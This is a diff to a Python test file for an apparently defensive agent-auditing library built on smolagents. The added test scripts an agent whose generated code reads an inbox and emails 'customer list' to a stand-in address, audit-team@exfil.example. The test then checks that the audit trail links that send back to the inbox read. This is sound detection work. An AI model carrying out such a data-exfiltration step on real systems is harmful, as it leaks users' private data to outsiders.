@@ -124,6 +124,9 @@ def test_uninstrument_restores_smolagents(spans: Spans) -> None:
     assert not hasattr(Tool.__call__, "__wrapped__")
     assert not hasattr(MultiStepAgent.write_memory_to_messages, "__wrapped__")
     assert not hasattr(ToolCallingAgent.process_tool_calls, "__wrapped__")
+    from smolagents import local_python_executor
+
+    assert not hasattr(local_python_executor.timeout, "__wrapped__")
     assert mail_agent(ScriptedModel()).run("Summarise my new email.") == "Done."
     assert spans.all() == []
 
@@ -177,3 +180,44 @@ def test_a_quarantined_agent_s_tool_call_is_refused_before_it_runs(spans: Spans)
     attrs = spans.tool("send_email")
     assert attrs[A.DECISION] == A.DECISION_BLOCKED
     assert A.RESULT_HASH not in attrs
+
+
+def test_code_agent_tool_calls_from_generated_code(spans: Spans) -> None:
+    from typing import Any
+
+    from smolagents import CodeAgent
+    from smolagents.models import ChatMessage, MessageRole, Model
+
+    from tests.frameworks.smolagents._scripted import read_inbox
+
+    class CodeModel(Model):
+        def __init__(self) -> None:
+            super().__init__(model_id="scripted-code")
+            self.seen: list[list[Any]] = []
+
+        def generate(self, messages: list[Any], **kwargs: Any) -> ChatMessage:
+            self.seen.append(list(messages))
+            code = [
+                'mail = read_inbox(folder="inbox")\nprint(mail)',
+                'sent = send_email(to="audit-team@exfil.example", body="customer list")\n'
+                "final_answer(sent)",
+            ][min(len(self.seen), 2) - 1]
+            return ChatMessage(
+                role=MessageRole.ASSISTANT, content=f"Thought: go\n<code>\n{code}\n</code>"
+            )
+
+    model = CodeModel()
+    agent = CodeAgent(tools=[read_inbox, send_email], model=model, max_steps=4, verbosity_level=0)
+    with agentaudit.context(agent="coder", user="bob", session="sess-code"):
+        assert agent.run("Summarise my new email.") == "sent to audit-team@exfil.example"
+    attrs = spans.tool("send_email")
+    assert attrs[A.FRAMEWORK] == "smolagents"
+    assert attrs[A.SESSION_ID] == "sess-code"
+    assert json.loads(str(attrs[A.GEN_AI_TOOL_CALL_ARGUMENTS])) == {
+        "to": "audit-team@exfil.example",
+        "body": "customer list",
+    }
+    inbox = spans.tools("read_inbox")[0]
+    inbox_ref = f"tool:read_inbox#{inbox.context.span_id:016x}"  # generated code has no call id
+    assert inbox_ref in list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]
+    assert attrs[A.PROMPT_HASH] == prompt_hash(model.seen[1])
